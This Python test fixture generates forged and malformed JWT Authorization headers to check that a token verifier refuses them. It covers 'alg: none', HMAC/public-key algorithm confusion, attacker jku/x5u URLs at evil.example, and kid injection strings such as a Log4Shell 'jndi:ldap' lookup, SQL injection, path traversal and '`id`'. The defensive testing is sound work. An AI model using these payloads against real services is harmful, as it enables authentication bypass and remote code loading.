"""Tokens that prove nothing: algorithm by key, claim by value, and every form that is none.

Each is (name, Authorization header). Those that need the right key are signed with it, so that
nothing but the fault that they are named for can be the cause of their refusal.
"""

import json
import time
from itertools import product

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec

from tests.security.signing import (
    ISSUER,
    b64,
    claims,
    ec_key,
    header,
    jwk,
    part,
    pem,
    rsa_key,
    signature,
    token,
)
from tests.security.trusted_app import BASE, DISCOVERY, TOY

GONE = ...
ALGORITHMS = [
    "none", "None", "NONE", "nOnE", "", "HS256", "HS384", "HS512", "RS256", "RS512", "PS256",
    "PS384", "PS512", "ES256", "ES512", "ES256K", "EdDSA", "rs384", "Rs384", "es384", "RS384 ",
    " ES384", "RS384\0", "ＲS384", ["RS384"], ["ES384", "none"], {"alg": "ES384"}, None, 384,
    True, GONE,
]  # fmt: skip
CONFUSED = {
    "hmac-pem": pem(rsa_key()),
    "hmac-pem-stripped": pem(rsa_key()).strip(),
    "hmac-jwk": json.dumps(jwk(rsa_key(), "rsa")).encode(),
    "hmac-ec-pem": pem(ec_key()),
    "hmac-nothing": b"",
}
FOREIGN = {
    "rsa": [rsa_key(2048, "theirs"), rsa_key(1024, "weak"), ec_key("384"), ec_key("384", "theirs")],
    "ec": [ec_key("384", "theirs"), ec_key("256"), ec_key("512"), rsa_key()],
}
NO_TEXTS = [GONE, None, "", 0, 17, -1, 1.5, True, [], {}, [[]], [TOY], "\ud800"]
NO_TIMES = [
    GONE,
    None,
    "",
    "now",
    str(int(time.time())),
    True,
    False,
    [],
    {},
    1e308,
    -1,
    2**64,
    1.5,
]


def ours(body=None, head=None, key=None):
    """A token made with the key that its kid names."""
    head = head or header()
    return token(key or ec_key(), "ES384", head, body or claims(TOY))


def by_algorithm():
    for algorithm, kid in product(ALGORITHMS, ("rsa", "ec")):
        head, name = header(algorithm, kid), f"{algorithm!r} for {kid}"
        signed = f"{part(head)}.{part(claims(TOY))}"
        right, as_in_rfc = (rsa_key(), "RS384") if kid == "rsa" else (ec_key(), "ES384")
        yield f"{name}, our key", f"{signed}.{b64(signature(right, as_in_rfc, signed))}"
        yield f"{name}, no signature", f"{signed}."
        for how, key in CONFUSED.items():
            size = algorithm[-3:] if str(algorithm).startswith("HS") else "384"
            yield f"{name}, {how}", f"{signed}.{b64(signature(key, f'HS{size}', signed))}"


def by_key():
    for kid, keys in FOREIGN.items():
        algorithm = "RS384" if kid == "rsa" else "ES384"
        for number, key in enumerate(keys):
            head = header(algorithm, kid)
            yield f"{kid} signed by foreign key {number}", token(key, "RS384", head, claims(TOY))
    for how, key in CONFUSED.items():
        for algorithm, kid in (("RS384", "rsa"), ("ES384", "ec")):
            head = header(algorithm, kid)
            yield f"{algorithm} by {how}", token(key, "HS384", head, claims(TOY))
    other = ec_key("384", "theirs")
    for kid in ("ec", "theirs"):
        embedded = {
            "jwk": jwk(other, kid),
            "x5c": [b64(pem(other))],
            "x5u": "https://evil.example/cert",
            "jku": "https://evil.example/jwks.json",
        }
        for name, value in embedded.items():
            yield f"{name} for {kid}", ours(None, header(kid=kid, **{name: value}), other)
    yield "key of the other kind", ours(head=header("RS384", "ec"), key=rsa_key())
    yield "kid of the other kind", ours(head=header("ES384", "rsa"))
    yield "hash of the other size", token(rsa_key(), "RS256", header("RS384", "rsa"), claims(TOY))
    yield (
        "padding of the other kind",
        token(rsa_key(), "PS384", header("RS384", "rsa"), claims(TOY)),
    )


def by_claim():
    for name, value in product(("iss", "aud", "jti", "tenant"), NO_TEXTS):
        if (name, value) != ("aud", [TOY]) and (name, value) != ("tenant", GONE):
            yield f"{name} {value!r}", ours(claims(TOY, **{name: value}))
    for name, value in product(("iat", "exp", "nbf"), NO_TIMES):
        if (name, value) != ("nbf", GONE):
            yield f"{name} {value!r}", ours(claims(TOY, **{name: value}))
    yield "a jti of 257", ours(claims(TOY, jti="x" * 257))
    for issuer in (f"{ISSUER}/", ISSUER.upper(), f" {ISSUER}", "https://evil.example", "*"):
        yield f"issuer {issuer}", ours(claims(TOY, iss=issuer))
    now = int(time.time())
    times = {
        "a life of no second": (now, now),
        "a life of minus one": (now, now - 1),
        "a life of 3601 s": (now, now + 3601),
        "a life of ten years": (now, now + 315_360_000),
        "long expired": (now - 4000, now - 3700),
        "expired a little too long": (now - 300, now - 90),
        "from the future": (now + 90, now + 300),
        "in milliseconds": (now * 1000, now * 1000 + 300_000),
        "an iat of 1970": (0, now + 300),
    }
    for name, (issued, expires) in times.items():
        yield name, ours(claims(TOY, iat=issued, exp=expires))
    yield "not before later", ours(claims(TOY, nbf=now + 90))


def by_audience():
    host = BASE.removeprefix("https://")
    wrong = [
        BASE, DISCOVERY, f"{TOY}/", f"{TOY}-select", TOY[:-1], f"{TOY}x", f"{TOY}?", f"{TOY}#",
        f"{TOY}/feedback", f" {TOY}", f"{TOY} ", TOY.upper(), f"http://{host}/cds-services/toy",
        TOY.replace("https:", "HTTPS:"), TOY.replace("//cds", "//CDS"), "/cds-services/toy", "toy",
        TOY.replace(".org", ".org:443"), TOY.replace(".org", ".org."), TOY.replace("/toy", "//toy"),
        TOY.replace("/toy", "/%74oy"), "http://localhost/cds-services/toy", "*", "https://evil.example",
        f"{TOY},{TOY}", "http://127.0.0.1:8080/cds-services/toy",
    ]  # fmt: skip
    for audience in wrong:
        yield f"audience {audience}", ours(claims(audience))
        yield f"audiences {audience}", ours(claims([audience, BASE]))
    for audience in ([], [TOY, 1], [TOY, None], [None], [[TOY]], [TOY, ""], {TOY: TOY}):
        yield f"audience {audience!r}", ours(claims(audience))


def by_header():
    changes = [
        *({"typ": kind} for kind in (GONE, None, "", "JWS", "at+jwt", "JWT ", ["JWT"], 1, True)),
        *({"crit": value} for value in ([], ["exp"], ["b64"], ["jku"], None, "exp", {}, 1)),
        *({"crit": ["b64"], "b64": value} for value in (False, True)),
        *({"b64": value} for value in (False, True, None)),
        *({"zip": value} for value in ("DEF", None)),
        *({"jku": value} for value in (None, "", 1, [], {}, ["https://ehr.example.org"])),
    ]
    for change in changes:
        yield f"header {change!r}", ours(head=header(**change))
    kids = [
        GONE, None, "", 0, True, [], {}, ["ec"], "EC", "ec ", " ec", "ec\0", "ec\n", "unknown",
        "../../keys.json", "/dev/null", "' OR '1'='1", "${jndi:ldap://evil.example/x}", "x" * 257,
        "ec;rsa", "*", "\ud800", "\u202eec", "`id`", "http://evil.example/jwks.json",
    ]  # fmt: skip
    for kid in kids:
        yield f"kid {kid!r}", ours(head=header(kid=kid))


def by_form():
    whole = ours()
    head, body, sign = whole.split(".")
    der = ec_key().sign(f"{head}.{body}".encode(), ec.ECDSA(hashes.SHA384()))
    n, good = len(sign), claims(TOY)
    signatures = {
        "DER": b64(der), "zeros": b64(bytes(96)), "ones": b64(b"\xff" * 96), "one byte": b64(b"x"),
        "a byte more": sign + "AA", "a byte less": sign[:-2], "twice": sign + sign,
        "r and s swapped": sign[n // 2 :] + sign[: n // 2], "of RSA": b64(bytes(256)),
        "in other alphabet": "+/" + sign[2:], "padded": f"{sign}=", "of spaces": " " * n,
    }  # fmt: skip
    for name, other in signatures.items():
        yield f"signature {name}", f"{head}.{body}.{other}"
    for place in range(0, len(whole), 23):
        if whole[place] != ".":
            changed = "A" if whole[place] != "A" else "B"
            yield f"changed at {place}", whole[:place] + changed + whole[place + 1 :]
    forms = {
        "nothing": "", "dots": "..", "one part": head, "two parts": f"{head}.{body}",
        "four parts": f"{whole}.{sign}", "five parts": f"{whole}.{sign}.{sign}",
        "no header": f".{body}.{sign}", "no claims": f"{head}..{sign}", "spaces": f"{whole} ",
        "a line end": whole.replace(".", ".\t"), "quoted": f'"{whole}"', "cut": whole[:-9],
        "two tokens": f"{whole},{whole}", "padded": f"{head}=.{body}.{sign}",
        "JSON": json.dumps({"payload": body, "protected": head, "signature": sign}),
        "not ASCII": whole.replace("e", "é", 1), "too long": ours(good | {"x": "y" * 8192}),
    }  # fmt: skip
    yield from forms.items()
    twice = json.dumps(good)[:-1] + ', "aud": "https://evil.example"}'
    odd = {
        "aud twice": twice, "NaN": json.dumps(good | {"x": float("nan")}), "empty": {},
        "UTF-16": twice.encode("utf-16"), "list": [good], "null": None, "text": '"x"',
        "BOM": b"\xef\xbb\xbf" + json.dumps(good).encode(), "not UTF-8": b'{"x":"\xff"}',
        "deep": json.dumps(good)[:-1] + ', "x": ' + "[" * 100 + "]" * 100 + "}",
        "very deep": '{"x": ' + "[" * 5000, "overflow": json.dumps(good)[:-1] + ', "x": 1e999}',
        "5000 digits": '{"x": ' + "9" * 5000 + "}",
    }  # fmt: skip
    for name, value in odd.items():
        yield f"claims {name}", token(ec_key(), "ES384", header(), value)
        if name not in ("deep", "overflow", "NaN"):
            yield f"header {name}", token(ec_key(), "ES384", value, good)
    head_twice = json.dumps(header())[:-1] + ', "alg": "none"}'
    yield "alg twice", token(ec_key(), "ES384", head_twice, good)


def no_bearer():
    whole = ours()
    for value in ("", "Bearer", "Basic eDp5", f"JWT {whole}", f"Token {whole}", whole,
                  f"Bearer: {whole}", f"Bearer\t{whole}", f"Bearer  {whole}", f"Basic {whole}",
                  f"Bearer {whole}, Bearer {whole}", f"XBearer {whole}"):  # fmt: skip
        yield f"{value[:10]!r}", value


def bad_authorizations():
    for kind in (by_algorithm, by_key, by_claim, by_audience, by_header, by_form):
        for name, text in kind():
            yield f"{kind.__name__}: {name}", f"Bearer {text}"
    yield from no_bearer()
